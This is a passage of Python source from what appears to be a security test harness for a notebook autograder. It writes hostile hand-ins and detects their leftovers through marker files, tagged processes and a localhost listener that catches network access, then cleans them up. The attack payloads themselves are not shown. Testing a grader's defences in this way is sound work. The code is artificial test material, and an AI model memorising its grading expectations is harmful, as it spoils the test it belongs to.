            nbformat.write(content, path)
        hand_ins.append(
            HandIn(
                file=path.name,
                attack=name,
                what=attack.what,
                honest_total=full if attack.solution else 0.0,
                exact=attack.solution,
                statuses=attack.statuses,
                markers=tuple(
                    p for m in attack.methods for p in _marker_paths(name, m, token, markers, root)
                ),
                tag=ctx.tag,
            )
        )
    return hand_ins


# ---- what an attack left behind ---------------------------------------------------------------


def stray_markers(token: str, markers: Path, course_root: Path | None = None) -> list[Path]:
    """Every marker file of this run that exists, wherever an attack could have put it."""
    root = course_root or repo_root()
    found = sorted(markers.iterdir()) if markers.is_dir() else []
    for where, prefix in ((Path("/tmp"), ""), (Path.home(), "."), (root, "")):
        found += sorted(where.glob(f"{prefix}hostile-{token}-*"))
    return found


def attack_processes(token: str) -> dict[str, list[str]]:
    """Live processes of this run's attacks (their name or command line holds ``hx<token>``),
    by tag: "pid name: command line". Zombies do not count (they have ended)."""
    import psutil

    found: dict[str, list[str]] = {}
    for proc in psutil.process_iter(["pid", "name", "cmdline", "status"]):
        info = proc.info
        if info["status"] == psutil.STATUS_ZOMBIE or info["pid"] == os.getpid():
            continue
        text = " ".join([info["name"] or "", *(info["cmdline"] or [])])
        at = text.find(f"hx{token}-")
        if at >= 0:
            tag = text[at : at + len(token) + 5]
            command = shlex.join(info["cmdline"] or [])
            found.setdefault(tag, []).append(f"{info['pid']} {info['name']}: {command}"[:300])
    return found


def clean_up(token: str, course_root: Path | None = None) -> None:
    """Kill this run's attack processes and remove its markers from /tmp, the home folder and
    the course folder (the markers folder is the caller's)."""
    import psutil

    for proc in psutil.process_iter(["pid", "name", "cmdline"]):
        text = " ".join([proc.info["name"] or "", *(proc.info["cmdline"] or [])])
        if f"hx{token}-" in text and proc.info["pid"] != os.getpid():
            with contextlib.suppress(psutil.Error):
                proc.kill()
    root = course_root or repo_root()
    for where, prefix in ((Path("/tmp"), ""), (Path.home(), "."), (root, "")):
        for path in where.glob(f"{prefix}hostile-{token}-*"):
            with contextlib.suppress(OSError):
                path.unlink()


class Listener:
    """A TCP listener on 127.0.0.1 that records the first line of every connection: a hand-in
    that reaches it reached the grading machine's network."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.5)
        self.port: int = self._socket.getsockname()[1]
        self.received: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._socket.accept()
            except OSError:  # the timeout: look at the stop flag again
                continue
            with conn:
                conn.settimeout(2)
                try:
                    data = conn.recv(200)
                except OSError:
                    data = b""
            self.received.append(data.decode(errors="replace").strip() or "(nothing sent)")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._socket.close()

    def __enter__(self) -> Listener:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
